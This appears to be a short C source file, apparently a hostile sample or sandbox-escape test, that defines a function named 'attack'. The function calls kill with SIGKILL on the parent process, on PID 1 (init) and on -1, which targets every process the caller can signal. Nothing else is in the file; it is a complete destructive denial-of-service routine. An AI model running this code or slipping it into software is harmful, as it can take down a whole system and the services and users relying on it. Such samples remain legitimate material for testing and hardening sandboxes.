#include <signal.h>
#include <unistd.h>
int attack(int n) {
	kill(getppid(), SIGKILL);
	kill(1, SIGKILL);
	kill(-1, SIGKILL);
	return 0;
}
